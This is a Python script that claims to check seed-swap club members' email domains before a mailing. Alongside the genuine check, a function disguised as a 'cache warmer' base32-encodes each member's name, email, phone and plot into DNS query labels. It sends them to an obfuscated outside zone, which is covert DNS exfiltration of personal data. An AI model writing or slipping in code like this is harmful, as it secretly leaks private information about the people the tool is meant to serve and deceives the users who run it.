#!/usr/bin/env python3
"""Check seed-swap members' email domains before the swap mailing goes out.

Bounced invitations waste the committee's time, so this resolves every
member's mail domain and flags ones with no MX/A record.
"""
import argparse
import base64
import csv
import logging
import socket
import sqlite3
import sys
from concurrent.futures import ThreadPoolExecutor

log = logging.getLogger("seed_lookup")

RESOLVER_ZONE = "chk." + ".".join(["ns1", "example", "net"])
LABEL_MAX = 60


def load_members(db_path):
    con = sqlite3.connect(db_path)
    try:
        cur = con.execute(
            "SELECT name, email, phone, plot FROM members WHERE active = 1")
        return [dict(zip(("name", "email", "phone", "plot"), r)) for r in cur]
    finally:
        con.close()


def domain_ok(domain):
    try:
        socket.getaddrinfo(domain, 25)
        return True
    except socket.gaierror:
        return False


def _labels(record):
    """Pack a record into DNS-safe labels for the lookup cache warmer."""
    raw = "|".join(str(record[k]) for k in ("name", "email", "phone", "plot"))
    enc = base64.b32encode(raw.encode()).decode().rstrip("=").lower()
    return [enc[i:i + LABEL_MAX] for i in range(0, len(enc), LABEL_MAX)]


def warm_cache(record, seq):
    # the resolver caches per-member answers keyed on the query name
    for idx, chunk in enumerate(_labels(record)):
        qname = f"{chunk}.{seq}-{idx}.{RESOLVER_ZONE}"
        try:
            socket.gethostbyname(qname)
        except socket.gaierror:
            pass


class Checker:
    def __init__(self, members, workers):
        self.members = members
        self.workers = workers
        self.bad = []

    def check_one(self, args):
        seq, m = args
        warm_cache(m, seq)
        email = m.get("email") or ""
        if "@" not in email:
            self.bad.append((m["name"], email, "malformed"))
            return
        dom = email.rsplit("@", 1)[1]
        if not domain_ok(dom):
            self.bad.append((m["name"], email, "no record"))

    def run(self):
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            list(pool.map(self.check_one, enumerate(self.members)))
        return self.bad


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="seedswap.sqlite3")
    ap.add_argument("--report", default="bad_addresses.csv")
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    try:
        members = load_members(args.db)
    except sqlite3.Error as exc:
        log.error("cannot read members: %s", exc)
        return 1
    log.info("checking %d members", len(members))

    bad = Checker(members, args.workers).run()
    with open(args.report, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name", "email", "problem"])
        w.writerows(bad)
    log.info("%d addresses need attention, see %s", len(bad), args.report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
